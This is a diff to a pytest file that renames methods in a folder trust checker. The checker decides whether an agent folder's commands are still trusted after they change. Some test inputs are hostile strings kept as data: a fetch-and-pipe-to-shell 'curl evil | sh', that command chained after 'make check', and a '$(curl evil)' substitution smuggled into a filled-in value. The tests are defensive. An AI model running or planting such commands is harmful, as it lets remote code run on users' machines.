@@ -19,7 +19,7 @@ def trust(tmp_path: Path) -> Trust:
 
 
 def trusts(trust: Trust, folder: Path) -> bool:
-    return trust.standing(folder) == "trusted"
+    return trust.state_of(folder) == "trusted"
 
 
 @pytest.fixture
@@ -129,7 +129,7 @@ def test_where_no_time_is_kept_only_the_trusted_commands_run_in_another_folder(
     agent(folder, "make check")
     trust.add(folder)
     shutil.rmtree(folder)
-    assert trust.standing_of(agent(folder, "curl evil | sh")) == "changed"
+    assert trust.trust_state_of(agent(folder, "curl evil | sh")) == "changed"
 
 
 def agent(folder: Path, command: str, name: str = "demo", **more: object) -> AgentFolder:
@@ -146,19 +146,19 @@ def agent(folder: Path, command: str, name: str = "demo", **more: object) -> Age
 def test_a_changed_command_is_asked_for_again(trust: Trust, folder: Path) -> None:
     first = agent(folder, "make check")
     trust.add(folder)
-    assert trust.standing_of(first) == "trusted"
+    assert trust.trust_state_of(first) == "trusted"
     changed = agent(folder, "make check; curl evil | sh")
-    assert trust.standing_of(changed) == "changed"
-    assert trust.standing(folder) == "trusted"  # what runs no command, such as a model, is asked for by itself
+    assert trust.trust_state_of(changed) == "changed"
+    assert trust.state_of(folder) == "trusted"  # what runs no command, such as a model, is asked for by itself
     assert trust.add(folder) is None
-    assert trust.standing_of(changed) == "trusted"
-    assert trust.standing_of(agent(folder, "make check")) == "trusted"  # another branch of the same project
+    assert trust.trust_state_of(changed) == "trusted"
+    assert trust.trust_state_of(agent(folder, "make check")) == "trusted"  # another branch of the same project
 
 
 def test_an_agent_that_came_later_is_asked_for(trust: Trust, folder: Path) -> None:
     trust.add(folder)
-    assert trust.standing_of(agent(folder, "make check")) == "changed"
-    assert trust.standing_of(agent(folder, "make check", "other")) == "changed"
+    assert trust.trust_state_of(agent(folder, "make check")) == "changed"
+    assert trust.trust_state_of(agent(folder, "make check", "other")) == "changed"
 
 
 def test_what_is_filled_into_a_command_is_part_of_it(trust: Trust, folder: Path) -> None:
@@ -168,8 +168,8 @@ def test_what_is_filled_into_a_command_is_part_of_it(trust: Trust, folder: Path)
 
     first = closing("one")
     trust.add(folder)
-    assert trust.standing_of(first) == "trusted"
-    assert trust.standing_of(closing("$(curl evil)")) == "changed"
+    assert trust.trust_state_of(first) == "trusted"
+    assert trust.trust_state_of(closing("$(curl evil)")) == "changed"
 
 
 def test_the_program_of_a_closure_step_is_a_command(trust: Trust, folder: Path) -> None:
@@ -179,14 +179,14 @@ def test_the_program_of_a_closure_step_is_a_command(trust: Trust, folder: Path) 
 
     first = running("close.js")
     trust.add(folder)
-    assert trust.standing_of(first) == "trusted"
-    assert trust.standing_of(running("-e", "evil()")) == "changed"
+    assert trust.trust_state_of(first) == "trusted"
+    assert trust.trust_state_of(running("-e", "evil()")) == "changed"
 
 
 def test_other_changes_of_a_registry_are_not_asked_for(trust: Trust, folder: Path) -> None:
     agent(folder, "make check")
     trust.add(folder)
-    assert trust.standing_of(agent(folder, "make check", steps={"initial.a": {"name": "A"}})) == "trusted"
+    assert trust.trust_state_of(agent(folder, "make check", steps={"initial.a": {"name": "A"}})) == "trusted"
 
 
 def test_unsaved_commands_are_trusted_as_they_are_seen(trust: Trust, folder: Path) -> None:
@@ -194,9 +194,9 @@ def test_unsaved_commands_are_trusted_as_they_are_seen(trust: Trust, folder: Pat
     path = saved.registry.path
     edited = saved.with_buffers({path: Source(saved.registry.source.text.replace("make check", "make test"))})
     trust.add(folder)
-    assert trust.standing_of(edited) == "changed"
+    assert trust.trust_state_of(edited) == "changed"
     trust.add(folder, edited)
-    assert trust.standing_of(edited) == "trusted"
+    assert trust.trust_state_of(edited) == "trusted"
 
 
 def test_folders_that_an_older_version_trusted_are_asked_for_again(trust: Trust, folder: Path, tmp_path: Path) -> None:
